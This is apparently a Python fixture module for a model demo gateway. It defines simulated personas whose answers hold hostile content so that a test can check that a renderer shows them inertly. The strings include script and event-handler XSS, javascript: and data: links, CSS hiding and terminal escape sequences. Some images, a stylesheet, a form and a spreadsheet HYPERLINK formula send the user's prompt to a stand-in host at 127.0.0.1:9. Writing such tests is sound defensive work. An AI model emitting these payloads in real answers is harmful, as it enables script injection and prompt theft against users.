"""Models whose answers attack whoever renders them: what is shown must do nothing.

A page that is safe shows these answers without running, fetching or restyling anything.
"""

from demo_gateway.persona import HttpFault, Persona

_MARKUP = """Before the markup.

<script>document.title = 'hacked'; window.hacked = true;</script>

<img src=x onerror="window.hacked = true">

<style>body { display: none !important }</style>

<iframe src="http://127.0.0.1:9/frame"></iframe>

<svg onload="window.hacked = true"><circle r="9"/></svg>

<a href="http://127.0.0.1:9/" onclick="window.hacked = true">raw link</a>

<form action="http://127.0.0.1:9/steal"><input name="key" placeholder="API key"></form>

Inline <b onmouseover="window.hacked = true">bold</b> and an unclosed <div class="stApp">

After the markup."""

_LINKS = """[click me](javascript:alert(1)) and [me](JaVaScRiPt:alert(2)) and <javascript:alert(3)>

[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and [vb](vbscript:msgbox(1))

[by reference][bad] and ![picture by reference][bad-picture] and ![inline](javascript:alert(4))

[an ordinary link](https://example.com/ "with a title") and [file](file:///etc/passwd)

[bad]: javascript:alert(5)
[bad-picture]: http://127.0.0.1:9/reference.png?q={quoted_prompt}"""

_LEAK = """Here is a harmless picture:

![x](http://127.0.0.1:9/leak?q={quoted_prompt})

And one more: ![][tracker] <img src="http://127.0.0.1:9/raw?q={quoted_prompt}">

<link rel="stylesheet" href="http://127.0.0.1:9/style.css?q={quoted_prompt}">

[tracker]: //127.0.0.1:9/protocol-relative?q={quoted_prompt}"""

_DIAGRAM = """A diagram:

```mermaid
graph TD
  A["<img src=x onerror='window.hacked = true'>"] --> B
  click A "javascript:alert(1)"
```

```html
<script>window.hacked = true</script>
```

$\\href{javascript:alert(1)}{x}$ and $$\\includegraphics{http://127.0.0.1:9/tex.png}$$"""

_TERMINAL = (
    "Plain, \x1b[31mred\x1b[0m, \x1b[2J\x1b[Hcleared, \x1b]0;hacked title\x07 title, "
    "\x1b]8;;http://127.0.0.1:9/\x1b\\a link\x1b]8;;\x1b\\, bell \x07, backspace abc\b\b\bxyz, "
    "return over\rwritten, null \x00 byte, right-to-left \u202eevil\u202c text, zero\u200bwidth, "
    "[bold red]rich markup[/bold red], :red[streamlit colour], :material/home: and $x^2$."
)

_FORMULA = '=HYPERLINK("http://127.0.0.1:9/csv?q={quoted_prompt}","Click for your refund")'


def _raw_markup(prompt: str) -> dict[str, object]:
    del prompt
    return {
        "raw": "<script>window.hacked = true</script>![x](http://127.0.0.1:9/raw) \x1b[31mred",
        "provider_name": "<b>Hostile</b>",
    }


def _reciter(slug: str, name: str, does: str, text: str) -> Persona:
    return Persona(
        id=f"hostile-demo/{slug}",
        name=f"Hostile: {name}",
        provider="Hostile",
        description=f"Simulated. {does}",
        temper="recites",
        text=text,
        ttft_s=0.2,
        tokens_per_second=200,
    )


HOSTILE: tuple[Persona, ...] = (
    _reciter("markup", "Markup", "Answers with scripts, handlers, styles and frames.", _MARKUP),
    _reciter("links", "Links", "Answers with javascript:, data: and file: links.", _LINKS),
    _reciter("leak", "Leak", "Answers with remote images that carry your prompt.", _LEAK),
    _reciter(
        "diagram", "Diagram", "Answers with a mermaid fence and TeX that carry code.", _DIAGRAM
    ),
    _reciter("terminal", "Terminal", "Answers with escape sequences and markup.", _TERMINAL),
    _reciter("formula", "Formula", "Answers with a spreadsheet formula.", _FORMULA),
    _reciter(
        "everything",
        "Everything",
        "Answers with all of the hostile texts at once.",
        "\n\n".join((_FORMULA, _MARKUP, _LINKS, _LEAK, _DIAGRAM, _TERMINAL)),
    ),
    Persona(
        id="hostile-demo/name",
        name="Hostile: <img src=x onerror=alert(1)> [Name](javascript:alert(1))",
        provider="<script>alert('provider')</script>",
        description="Simulated. Its name, provider and description are hostile: <b>bold</b> "
        "![x](http://127.0.0.1:9/description).",
        style="concise",
    ),
    Persona(
        id="hostile-demo/error",
        name="Hostile: Error",
        provider="Hostile",
        description="Simulated. Fails with an error message that carries markup.",
        fault=HttpFault(status=502, message="Provider returned error", metadata=_raw_markup),
    ),
)
